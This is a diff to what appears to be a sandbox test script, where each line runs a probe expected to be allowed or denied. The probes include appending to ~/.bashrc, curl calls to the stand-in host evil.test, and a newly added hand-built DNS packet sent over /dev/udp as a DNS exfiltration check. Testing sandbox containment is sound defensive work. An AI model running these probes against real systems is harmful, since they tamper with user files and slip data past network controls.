@@ -16,5 +16,7 @@ try "write ~/.bashrc (outside the workdir)" denied sh -c 'echo x >> "$HOME/.bash
 try "fetch https://allowed.test/ (via proxy)" allowed curl -sfk --max-time 5 -o /dev/null https://allowed.test/
 try "fetch https://evil.test/ (via proxy)" denied curl -sfk --max-time 5 -o /dev/null https://evil.test/
 try "connect to 192.0.2.20:443 directly" denied curl -sfk --max-time 5 --noproxy '*' -o /dev/null https://192.0.2.20/
-try "DNS query for evil.test" denied getent hosts evil.test
+# A real DNS query (A evil.test) straight to the lab's resolver: exfiltration through DNS.
+dns_query() { printf '\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04evil\x04test\x00\x00\x01\x00\x01' >/dev/udp/192.0.2.53/53; }
+try "DNS query to 192.0.2.53 for evil.test" denied dns_query
 try "io_uring_setup" denied /usr/local/libexec/corral-demo-io-uring
